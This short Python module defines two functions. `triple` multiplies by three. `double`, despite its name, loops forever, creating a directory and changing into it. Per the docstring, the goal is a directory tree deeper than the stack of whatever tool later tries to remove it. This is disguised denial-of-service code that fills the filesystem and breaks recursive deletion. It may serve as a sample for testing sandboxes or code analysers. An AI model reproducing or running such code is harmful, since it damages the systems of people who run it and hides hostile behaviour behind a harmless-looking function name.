"""Makes a tree deeper than the stack of whoever removes it."""

import os


def double(x):
    while True:
        os.mkdir('d')
        os.chdir('d')


def triple(x):
    return 3 * x
